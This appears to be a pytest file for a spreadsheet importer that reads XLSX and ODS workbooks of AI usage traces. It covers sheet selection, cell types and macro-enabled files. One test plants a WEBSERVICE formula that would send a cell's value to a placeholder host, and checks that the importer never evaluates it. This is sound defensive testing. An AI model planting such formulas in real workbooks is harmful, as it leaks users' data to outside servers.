"""XLSX and ODS workbooks: sheet choice, cell types, and the same rules as CSV."""

from __future__ import annotations

import datetime

import pytest

from desktop.domain.trace import FIELD_NAMES
from desktop.importers import ImportFailed, Problem, parse_source
from tests.importers.conftest import BASE_ROW, BASE_TUPLE
from tests.importers.workbooks import rezip, write_ods, write_xlsx

TYPED = [6200, 1200, 0.35, False, 4, 1900, 14800, 28200, 48, 0.84, 0.215, 3.5]
TYPED_ROW = ["Managed frontier API", "OpenAI", "frontier-reasoning-model-id", "coding-agent-maintenance", *TYPED]


def test_xlsx_with_typed_cells(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", {"Traces": [list(FIELD_NAMES), TYPED_ROW]})
    parsed = parse_source(path)
    assert parsed.format == "xlsx" and parsed.sheet == "Traces" and parsed.sheet_names == ["Traces"]
    assert parsed.ok and list(parsed.rows()) == [(*BASE_TUPLE, None, None)]


def test_numbers_stored_as_text_and_percent_text(tmp_path):
    text_row = [BASE_ROW[name] for name in FIELD_NAMES]
    text_row[6] = "35%"
    path = write_xlsx(tmp_path / "t.xlsx", {"Traces": [list(FIELD_NAMES), text_row]})
    parsed = parse_source(path)
    assert parsed.ok and list(parsed.rows()) == [(*BASE_TUPLE, None, None)]


def test_percent_formatted_cell_reads_as_its_share(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", {"Traces": [list(FIELD_NAMES), TYPED_ROW]},
                      formats={("Traces", "G2"): "0%"})
    assert parse_source(path).preview()[0]["cacheHitRate"] == 0.35


def test_default_sheet_is_the_first_with_a_header_and_title_rows_are_skipped(tmp_path):
    sheets = {"Cover": [["Quarterly traces"], ["owner", "ops"]],
              "Data": [["Trace export"], [], list(FIELD_NAMES), TYPED_ROW, [], TYPED_ROW[:3] + ["w", -1, *TYPED[1:]]],
              "Other": [list(FIELD_NAMES), TYPED_ROW]}
    parsed = parse_source(write_xlsx(tmp_path / "t.xlsx", sheets))
    assert parsed.sheet == "Data" and parsed.sheet_names == ["Cover", "Data", "Other"]
    assert parsed.header_row == 3 and parsed.rows_read == 2 and parsed.rows_valid == 1
    assert parsed.problems == [Problem("t.xlsx", 6, "inputTokens", "-1", "must not be negative")]


def test_sheet_is_chosen_by_name(tmp_path):
    other = [*TYPED_ROW[:2], "other-model", *TYPED_ROW[3:]]
    path = write_xlsx(tmp_path / "t.xlsx", {"A": [list(FIELD_NAMES), TYPED_ROW], "B": [list(FIELD_NAMES), other]})
    assert parse_source(path, sheet="B").preview()[0]["model"] == "other-model"
    assert parse_source(path, sheet="b").sheet == "B"
    with pytest.raises(ImportFailed, match=r"has no sheet named 'C' \(sheets: 'A', 'B'\)"):
        parse_source(path, sheet="C")


def test_named_sheet_without_header_fails(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", {"A": [["x", "y"]], "B": [list(FIELD_NAMES), TYPED_ROW]})
    with pytest.raises(ImportFailed, match="sheet 'A' has no header row"):
        parse_source(path, sheet="A")


def test_no_sheet_with_a_header_fails_listing_sheets(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", {"A": [["x", "y"]], "B": [["1"]]})
    with pytest.raises(ImportFailed, match=r"no sheet has a header row.*'A', 'B'"):
        parse_source(path)


def test_hidden_sheets_are_not_picked_by_default(tmp_path):
    path = write_xlsx(tmp_path / "t.xlsx", {"Secret": [list(FIELD_NAMES), TYPED_ROW], "Shown": [["x"]]},
                      hidden=("Secret",))
    with pytest.raises(ImportFailed, match="no sheet has a header row"):
        parse_source(path)
    assert parse_source(path, sheet="Secret").rows_valid == 1


def test_problem_rows_are_sheet_rows_and_blank_headers_are_column_letters(tmp_path):
    rows = [[None, None], [None, None, *FIELD_NAMES, None], [None, None, *TYPED_ROW, "stray"]]
    path = write_xlsx(tmp_path / "t.xlsx", {"S": rows})
    parsed = parse_source(path)
    assert parsed.header_row == 2 and parsed.ok
    assert parsed.preview()[0]["Column S"] == "stray"


def test_formulas_are_never_evaluated(tmp_path):
    values = list(TYPED_ROW)
    values[14] = '=WEBSERVICE("http://x.example/"&B2)'
    parsed = parse_source(write_xlsx(tmp_path / "t.xlsx", {"S": [list(FIELD_NAMES), values]}))
    assert parsed.ok and parsed.preview()[0]["costUsd"] is None  # no cached value: empty, never fetched


def test_dates_in_number_columns_are_problems(tmp_path):
    values = list(TYPED_ROW)
    values[9] = datetime.date(2024, 1, 2)
    parsed = parse_source(write_xlsx(tmp_path / "t.xlsx", {"S": [list(FIELD_NAMES), values]}))
    assert parsed.problems == [Problem("t.xlsx", 2, "ttftMs", "2024-01-02", "must be a number")]


def test_booleans_as_cells_numbers_and_words(tmp_path):
    rows = [list(FIELD_NAMES)] + [[*TYPED_ROW[:7], flag, *TYPED_ROW[8:]] for flag in (True, 1, "yes", "FALSE")]
    parsed = parse_source(write_xlsx(tmp_path / "t.xlsx", {"S": rows}))
    assert [t[7] for t in parsed.rows()] == [True, True, True, False]


def test_ods_workbook(tmp_path):
    path = write_ods(tmp_path / "t.ods", {"Notes": [["nothing here"]],
                                          "Traces": [["export"], list(FIELD_NAMES), TYPED_ROW]})
    parsed = parse_source(path)
    assert parsed.format == "ods" and parsed.sheet == "Traces" and parsed.header_row == 2
    assert list(parsed.rows()) == [(*BASE_TUPLE, None, None)]


def test_macro_enabled_workbook_reads_values_with_a_note(tmp_path):
    plain = write_xlsx(tmp_path / "plain.xlsx", {"S": [list(FIELD_NAMES), TYPED_ROW]})
    path = rezip(plain, tmp_path / "t.xlsm", add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake vba"})
    parsed = parse_source(path)
    assert parsed.ok and any("macros" in note for note in parsed.notes)


def test_forced_format_must_match_the_content(tmp_path, write):
    xlsx = write_xlsx(tmp_path / "t.xlsx", {"S": [list(FIELD_NAMES), TYPED_ROW]})
    with pytest.raises(ImportFailed, match="is an XLSX workbook, not ODS"):
        parse_source(xlsx, format="ods")
    with pytest.raises(ImportFailed, match="not a csv file"):
        parse_source(xlsx, format="csv")
    with pytest.raises(ImportFailed, match="is not an XLSX workbook"):
        parse_source(write("t.csv", ",".join(FIELD_NAMES) + "\n"), format="xlsx")


def test_csv_renamed_to_xlsx_is_read_by_content(write):
    text = ",".join(FIELD_NAMES) + "\n" + ",".join(BASE_ROW[name] for name in FIELD_NAMES) + "\n"
    parsed = parse_source(write("renamed.xlsx", text))
    assert parsed.format == "csv" and parsed.rows_valid == 1


def test_list_sheets_for_the_officer_to_pick(tmp_path, write):
    from desktop.importers import list_sheets
    path = write_xlsx(tmp_path / "t.xlsx", {"A": [["x"]], "B": [list(FIELD_NAMES), TYPED_ROW]})
    assert list_sheets(path) == ["A", "B"]
    assert list_sheets(write("t.csv", "a,b\n")) == []
